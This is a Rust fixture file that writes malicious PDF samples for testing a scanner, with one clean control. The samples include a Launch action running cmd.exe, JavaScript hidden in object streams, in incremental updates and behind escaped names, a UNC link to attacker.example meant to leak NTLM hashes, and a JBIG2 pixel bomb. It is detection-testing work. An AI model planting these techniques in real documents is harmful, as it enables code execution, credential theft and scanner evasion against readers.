//! Fixtures for the pdf area: small PDFs written byte by byte (so that every trick — object
//! streams, incremental updates, escaped names — is exactly what the name says), one attack
//! each, plus a clean control.

use crate::fixture::Fixture;
use std::io::Write;

/// Every pdf fixture.
pub fn fixtures() -> Vec<Fixture> {
    vec![
        Fixture::dangerous(
            "pdf_openaction_js_in_objstm.pdf",
            openaction_js_in_objstm(),
            &["pdf.javascript", "pdf.open_action", "pdf.object_streams"],
            "OpenAction JavaScript hidden in a compressed object stream (invisible to byte scanners)",
        ),
        Fixture::dangerous(
            "pdf_launch.pdf",
            simple(
                "/OpenAction 5 0 R",
                "",
                &[(5, "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (cmd.exe) >>")],
            ),
            &["pdf.launch", "pdf.open_action"],
            "Launch action run on open (starts cmd.exe)",
        ),
        Fixture::dangerous(
            "pdf_js_incremental_update.pdf",
            js_incremental_update(),
            &["pdf.javascript", "pdf.incremental_update"],
            "clean first revision; JavaScript name tree added by an incremental update",
        ),
        Fixture::dangerous(
            "pdf_escaped_javascript_name.pdf",
            simple(
                "/OpenAction 5 0 R",
                "",
                &[(5, "<< /S /J#61vaScript /J#53 (app.alert\\('kiyome'\\)) >>")],
            ),
            &["pdf.javascript", "pdf.name_escape", "pdf.open_action"],
            "JavaScript action spelled /J#61vaScript and /J#53 to evade keyword scanners",
        ),
        Fixture::dangerous(
            "pdf_gotor.pdf",
            simple(
                "",
                "/Annots [5 0 R]",
                &[(
                    5,
                    "<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\doc.pdf) /D [0 /Fit] >> >>",
                )],
            ),
            &["pdf.goto_remote", "pdf.annotations"],
            "link opening a remote document on a UNC share (GoToR)",
        ),
        Fixture::dangerous(
            "pdf_uri_file.pdf",
            simple(
                "",
                "/Annots [5 0 R]",
                &[(
                    5,
                    "<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>",
                )],
            ),
            &["pdf.uri"],
            "link to a file:// URI (local program)",
        ),
        Fixture::dangerous(
            "pdf_uri_unc.pdf",
            simple(
                "",
                "/Annots [5 0 R]",
                &[(
                    5,
                    "<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x) >> >>",
                )],
            ),
            &["pdf.uri"],
            "link to a UNC path (NTLM hash leak on click)",
        ),
        Fixture::dangerous(
            "pdf_embedded_file.pdf",
            simple(
                "/Names << /EmbeddedFiles << /Names [(payload.txt) 5 0 R] >> >>",
                "",
                &[
                    (
                        5,
                        "<< /Type /Filespec /F (payload.txt) /UF (payload.txt) /EF << /F 6 0 R >> >>",
                    ),
                    (6, &stream("/Type /EmbeddedFile", b"kiyome embedded payload\n")),
                ],
            ),
            &["pdf.embedded_file"],
            "embedded file in the EmbeddedFiles name tree",
        ),
        Fixture::dangerous(
            "pdf_xfa.pdf",
            simple(
                "/AcroForm << /Fields [] /XFA 5 0 R >>",
                "",
                &[(
                    5,
                    &stream(
                        "",
                        b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><script>app.alert(1)</script></template></xdp:xdp>",
                    ),
                )],
            ),
            &["pdf.xfa", "pdf.acroform"],
            "XFA form carrying a script",
        ),
        Fixture::dangerous(
            "pdf_richmedia.pdf",
            simple(
                "",
                "/Annots [5 0 R]",
                &[
                    (
                        5,
                        "<< /Type /Annot /Subtype /RichMedia /Rect [72 400 372 600] /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >> >>",
                    ),
                    (6, "<< /Type /Filespec /F (a.swf) /EF << /F 7 0 R >> >>"),
                    (7, &stream("/Type /EmbeddedFile", b"FWS\x09fake flash")),
                ],
            ),
            &["pdf.rich_media", "pdf.embedded_file", "pdf.annotations"],
            "RichMedia (Flash) annotation with an embedded SWF",
        ),
        Fixture::dangerous(
            "pdf_page_aa_javascript.pdf",
            simple(
                "",
                "/AA << /O << /S /JavaScript /JS (app.alert\\('page open'\\)) >> >>",
                &[],
            ),
            &["pdf.additional_actions", "pdf.javascript"],
            "page-open additional action (/AA /O) running JavaScript",
        ),
        Fixture::dangerous(
            "pdf_jbig2_pixel_bomb.pdf",
            simple(
                "",
                "/Thumb 5 0 R",
                &[(
                    5,
                    &stream(
                        "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode",
                        &jbig2_giant_page(),
                    ),
                )],
            ),
            &["limit.pixels", "pdf.jbig2"],
            "page thumbnail: 70 bytes of JBIG2 declaring a 100 000 × 100 000 page (10 Gpixel dimension bomb, after pdf.js bomb_giant.pdf)",
        ),
        Fixture::clean(
            "pdf_clean.pdf",
            simple("", "", &[]),
            "clean control: one page of text, nothing active",
        ),
    ]
}

/// An embedded JBIG2 stream (T.88 7.2, 7.4.8, 7.4.6): a page information segment and an
/// immediate generic region segment, both 100 000 × 100 000 pixels, with two bytes of coded
/// data: what a decoder would allocate is declared, not compressed.
fn jbig2_giant_page() -> Vec<u8> {
    let side = 100_000u32.to_be_bytes();
    let mut v = Vec::new();
    // Segment 0: page information (type 48), no referred-to segments, page 1, 19 bytes.
    v.extend(0u32.to_be_bytes());
    v.extend([48, 0x00, 0x01]);
    v.extend(19u32.to_be_bytes());
    v.extend(side);
    v.extend(side);
    v.extend([0; 8]);
    v.extend([0x01, 0x00, 0x00]);
    // Segment 1: immediate generic region (type 38), 26 bytes.
    v.extend(1u32.to_be_bytes());
    v.extend([38, 0x00, 0x01]);
    v.extend(26u32.to_be_bytes());
    v.extend(side);
    v.extend(side);
    v.extend([0; 8]);
    v.extend([0x00, 0x00]);
    v.extend([0x03, 0xFF, 0xFD, 0xFF, 0x02, 0xFE, 0xFE, 0xFE]);
    v.extend([0xFF, 0xAC]);
    v
}

const FONT: &str = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

fn content(text: &str) -> String {
    let body = format!("BT /F1 18 Tf 72 720 Td (kiyome fixture: {text}) Tj ET");
    stream("", body.as_bytes())
}

/// A stream object body with `dict_extra` in its dictionary.
pub(crate) fn stream(dict_extra: &str, data: &[u8]) -> String {
    // Fixture streams are ASCII or Latin-1; map bytes 1:1 to chars so they survive String.
    let text: String = data.iter().map(|&b| b as char).collect();
    format!(
        "<< {dict_extra} /Length {} >>\nstream\n{text}\nendstream",
        data.len()
    )
}

/// Objects 1–4 (catalog, pages, page, content, font as 4… see below) plus `extra` objects.
/// `cat_extra` goes into the catalog, `page_extra` into the page dictionary.
pub(crate) fn simple(cat_extra: &str, page_extra: &str, extra: &[(u32, &str)]) -> Vec<u8> {
    let mut objs: Vec<(u32, String)> = base_objects(cat_extra, page_extra, "one page");
    objs.extend(extra.iter().map(|(n, s)| (*n, s.to_string())));
    classic(&objs, "/Info 10 0 R", &[(10, info())])
}

fn info() -> String {
    "<< /Producer (kiyome-fixtures) /Title (fixture) >>".into()
}

fn base_objects(cat_extra: &str, page_extra: &str, text: &str) -> Vec<(u32, String)> {
    vec![
        (1, format!("<< /Type /Catalog /Pages 2 0 R {cat_extra} >>")),
        (2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".into()),
        (
            3,
            format!(
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 9 0 R >> >> /Contents 4 0 R {page_extra} >>"
            ),
        ),
        (4, content(text)),
        (9, FONT.into()),
    ]
}

/// Latin-1 string → bytes.
fn bytes(s: &str) -> Vec<u8> {
    s.chars().map(|c| c as u32 as u8).collect()
}

/// A classic single-revision file: header, objects, xref table, trailer.
fn classic(objs: &[(u32, String)], trailer_extra: &str, more: &[(u32, String)]) -> Vec<u8> {
    let mut all: Vec<(u32, String)> = objs.iter().chain(more).cloned().collect();
    all.sort_by_key(|(n, _)| *n);
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = std::collections::BTreeMap::new();
    for (n, body) in &all {
        offsets.insert(*n, out.len());
        out.extend_from_slice(format!("{n} 0 obj\n").as_bytes());
        out.extend_from_slice(&bytes(body));
        out.extend_from_slice(b"\nendobj\n");
    }
    let size = all.last().map(|(n, _)| n + 1).unwrap_or(1);
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {size}\n0000000000 65535 f \n").as_bytes());
    for n in 1..size {
        match offsets.get(&n) {
            Some(o) => out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes()),
            None => out.extend_from_slice(b"0000000000 65535 f \n"),
        }
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {size} /Root 1 0 R {trailer_extra} >>\nstartxref\n{xref}\n%%EOF\n"
        )
        .as_bytes(),
    );
    out
}

/// A clean file, then an incremental update that rewrites the catalog to add a document-level
/// JavaScript name tree (ISO 32000-1 §7.5.6).
fn js_incremental_update() -> Vec<u8> {
    let mut out = simple("", "", &[]);
    let prev = find_last_startxref(&out);
    let added = [
        (
            1u32,
            "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 11 0 R >> >>".to_string(),
        ),
        (11, "<< /Names [(init) 12 0 R] >>".into()),
        (
            12,
            "<< /S /JavaScript /JS (app.alert\\('from the update'\\)) >>".into(),
        ),
    ];
    let mut offs = Vec::new();
    for (n, body) in &added {
        offs.push((*n, out.len()));
        out.extend_from_slice(format!("{n} 0 obj\n{body}\nendobj\n").as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(b"xref\n0 2\n0000000000 65535 f \n");
    out.extend_from_slice(format!("{:010} 00000 n \n", offs[0].1).as_bytes());
    out.extend_from_slice(b"11 2\n");
    for (_, o) in &offs[1..] {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size 13 /Root 1 0 R /Info 10 0 R /Prev {prev} >>\nstartxref\n{xref}\n%%EOF\n"
        )
        .as_bytes(),
    );
    out
}

fn find_last_startxref(data: &[u8]) -> usize {
    let text = String::from_utf8_lossy(data);
    text.rsplit("startxref")
        .next()
        .and_then(|t| t.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0)
}

/// Catalog (with /OpenAction) and the JavaScript action both live in a Flate-compressed
/// object stream, indexed by a cross-reference stream (ISO 32000-1 §7.5.7, §7.5.8).
fn openaction_js_in_objstm() -> Vec<u8> {
    let inner = [
        (1u32, "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"),
        (
            6,
            "<< /S /JavaScript /JS (app.alert\\('hidden in ObjStm'\\)) >>",
        ),
    ];
    let mut header = String::new();
    let mut body = String::new();
    for (n, o) in &inner {
        header.push_str(&format!("{n} {} ", body.len()));
        body.push_str(o);
        body.push('\n');
    }
    let first = header.len();
    let plain = format!("{header}{body}");
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::new(9));
    // Writing into a Vec cannot fail.
    let _ = z.write_all(plain.as_bytes());
    let packed = z.finish().unwrap_or_default();

    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut offsets = std::collections::BTreeMap::new();
    let plain_objs = [
        (2u32, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_string()),
        (
            3,
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 9 0 R >> >> /Contents 4 0 R >>".into(),
        ),
        (4, content("object stream")),
        (9, FONT.into()),
    ];
    for (n, b) in &plain_objs {
        offsets.insert(*n, out.len());
        out.extend_from_slice(format!("{n} 0 obj\n{b}\nendobj\n").as_bytes());
    }
    offsets.insert(5, out.len());
    out.extend_from_slice(
        format!(
            "5 0 obj\n<< /Type /ObjStm /N {} /First {first} /Filter /FlateDecode /Length {} >>\nstream\n",
            inner.len(),
            packed.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&packed);
    out.extend_from_slice(b"\nendstream\nendobj\n");
    let xref_at = out.len();
    // /W [1 4 2]: type, field 2 (offset or container), field 3 (generation or index).
    let mut rows = Vec::new();
    for n in 0u32..11 {
        let (t, f2, f3): (u8, u32, u16) = match n {
            0 => (0, 0, 65535),
            1 => (2, 5, 0),
            6 => (2, 5, 1),
            10 => (1, xref_at as u32, 0),
            n => match offsets.get(&n) {
                Some(o) => (1, *o as u32, 0),
                None => (0, 0, 0),
            },
        };
        rows.push(t);
        rows.extend_from_slice(&f2.to_be_bytes());
        rows.extend_from_slice(&f3.to_be_bytes());
    }
    out.extend_from_slice(
        format!(
            "10 0 obj\n<< /Type /XRef /Size 11 /W [1 4 2] /Root 1 0 R /Length {} >>\nstream\n",
            rows.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&rows);
    out.extend_from_slice(format!("\nendstream\nendobj\nstartxref\n{xref_at}\n%%EOF\n").as_bytes());
    out
}
